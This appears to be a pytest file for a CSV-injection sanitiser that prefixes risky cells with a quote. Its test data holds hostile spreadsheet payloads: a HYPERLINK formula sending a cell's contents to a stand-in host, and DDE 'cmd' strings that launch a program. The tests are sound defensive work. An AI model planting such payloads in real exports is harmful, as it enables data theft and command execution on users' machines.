"""CSV cells a spreadsheet cannot run as formulas (OWASP CSV injection), numbers left readable."""

import csv
import io

import pytest

from safe_text.cells import DictWriter, safe_cell, writer

HOSTILE = '=HYPERLINK("http://x/?d="&A1,"Click")'


@pytest.mark.parametrize(
    "text",
    [
        HOSTILE,
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "-1+2",
        "-0.19 ",
        "+44 7700 900123",
    ],
)
def test_a_cell_that_could_start_a_formula_gets_a_quote_in_front(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-0.19", "+44", "51.36", "1e-3", "-.5", "10", "Sutton Hub", "a=b", ""])
def test_numbers_and_ordinary_text_are_left_as_they_are(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-0.19, -3, 0, 2.5, None, True])
def test_numbers_the_code_writes_are_left_alone(value):
    assert safe_cell(value) is value


def test_the_writer_and_the_dict_writer_neutralise_every_cell():
    out = io.StringIO()
    writer(out, lineterminator="\n").writerows([["name", "longitude"], [HOSTILE, "-0.19"], ["@x", -0.19]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "longitude"],
        ["'" + HOSTILE, "-0.19"],
        ["'@x", "-0.19"],
    ]
    out = io.StringIO()
    table = DictWriter(out, fieldnames=["name", "longitude"])
    table.writeheader()
    table.writerows([{"name": HOSTILE, "longitude": "-0.19"}, {"name": "+1-1", "longitude": None}])
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [
        {"name": "'" + HOSTILE, "longitude": "-0.19"},
        {"name": "'+1-1", "longitude": ""},
    ]


def test_every_csv_the_service_writes_goes_through_safe_text():
    """No module of the service makes a plain csv writer: they use `safe_text.cells` (tests and benchmarks
    write their own fixtures)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[3]
    skipped = {"tests", "bench", "safe_text", "node_modules", ".venv", "migrations"}
    plain = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not skipped & set(path.relative_to(root).parts)
        and not any(part.startswith(".") for part in path.relative_to(root).parts)  # .venv-train, .git...
        for text in [path.read_text()]
        if "csv.writer(" in text or "csv.DictWriter(" in text
    ]
    assert plain == []
